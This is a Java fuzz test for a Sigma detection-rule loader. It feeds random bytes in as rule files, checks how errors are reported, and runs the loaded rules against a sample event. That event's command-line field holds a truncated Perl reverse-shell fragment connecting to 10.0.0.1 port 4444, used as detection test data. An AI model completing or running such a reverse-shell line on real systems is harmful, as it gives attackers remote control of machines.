package dev.laurel.plugins.sigma;

import com.code_intelligence.jazzer.junit.FuzzTest;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;
import java.util.Set;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Any bytes as a Sigma rule file (rule files are third-party text): rules, or errors and skips
 * that name the file, never an exception; each rule loaded then runs on an event without one, and
 * a rule that matches is one its index of required literals would have tried. Without
 * {@code JAZZER_FUZZ=1} it replays the committed inputs in
 * {@code RuleLoaderFuzzTestInputs/loadsOrNamesTheFile/} as a regression test;
 * {@code JAZZER_FUZZ=1 mvn -o -pl laurel-plugins/sigma -am test -Dtest=RuleLoaderFuzzTest
 * -Dsurefire.failIfNoSpecifiedTests=false} fuzzes for up to 10 minutes.
 */
class RuleLoaderFuzzTest {
    private static Path file;

    @BeforeAll
    static void setUp() throws IOException {
        file = Files.createTempFile("sigma-fuzz", ".yml");
    }

    @AfterAll
    static void tearDown() throws IOException {
        Files.deleteIfExists(file);
    }

    @FuzzTest(maxDuration = "10m")
    void loadsOrNamesTheFile(byte[] input) throws IOException {
        Files.write(file, input);
        RuleLoader loader = new RuleLoader(Map.of("admins", java.util.List.of("root", "admin")),
                Set.of("stable", "test", "experimental"), SigmaRule.Level.INFORMATIONAL);
        loader.load(file);

        assertThat(loader.errors).allSatisfy(e -> assertThat(e).startsWith(file + ":"));
        assertThat(loader.skipped).allSatisfy(s -> assertThat(s.file()).isEqualTo(file.toString()));
        // the event: fields a rule could name, one of them the input itself
        String text = new String(input, StandardCharsets.UTF_8);
        Map<String, String> fields = Map.of("Image", "/usr/bin/perl", "CommandLine",
                "perl -e 'use Socket;$i=\"10.0.0.1\";connect(S,sockaddr_in(4444,inet_aton($i)))'",
                "User", "root", "ParentImage", "/bin/bash", "a", text.length() > 200 ? text.substring(0, 200) : text);
        for (SigmaRule rule : loader.rules) {
            TestRules.matches(rule, fields);
        }
    }
}
